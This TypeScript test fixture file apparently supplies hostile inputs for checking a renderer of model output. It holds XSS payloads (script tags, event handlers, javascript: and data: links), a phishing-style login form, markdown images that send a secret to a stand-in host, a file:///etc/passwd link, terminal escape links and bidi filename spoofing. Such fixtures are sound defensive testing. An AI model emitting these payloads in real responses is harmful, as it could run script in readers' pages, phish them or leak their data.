/** What a model might say, or be made to say, to do something with the page of whoever reads it. */
export const ELSEWHERE = 'http://127.0.0.2:9';

export const HOSTILE = `<script>globalThis.ran = 'script'</script>
<img src="x" onerror="globalThis.ran = 'onerror'">
<svg onload="globalThis.ran = 'svg'"></svg>
<iframe srcdoc="<script>parent.ran = 'iframe'</script>"></iframe>
<form action="${ELSEWHERE}/form"><button>Log in again</button></form>
<style>body { background: url(${ELSEWHERE}/style) }</style>
<link rel="stylesheet" href="${ELSEWHERE}/link">
<meta http-equiv="refresh" content="0; url=${ELSEWHERE}/refresh">

![the weather](${ELSEWHERE}/image?secret=42)
![again][picture]

[picture]: ${ELSEWHERE}/reference?secret=42

[a script](javascript:globalThis.ran='link')
[a page](data:text/html,<script>globalThis.ran='data'</script>)
[a file](file:///etc/passwd)
[a mixed one](JaVaScRiPt:globalThis.ran='mixed')
[a link](${ELSEWHERE}/page)
<javascript:globalThis.ran='auto'>

\`\`\`html
<script>globalThis.ran = 'code'</script>
\`\`\`

\u001b[31mred\u001b[0m \u001b]8;;${ELSEWHERE}/osc\u0007a terminal's link\u001b]8;;\u0007
\u202etxt.exe\u202c and \u2066isolated\u2069 \u0000 \u200b

| a | b |
|---|---|
| <b onmouseover="globalThis.ran = 'cell'">cell</b> | ![cell](${ELSEWHERE}/cell) |

The end of it.
`;

/** Many lines that are 1 MB. */
export const HUGE = `${'A line of **many**, with `code`.\n\n'.repeat(30_000)}The end of it.`;

/** One line without a place to break it. */
export const LONG = 'x'.repeat(100_000);
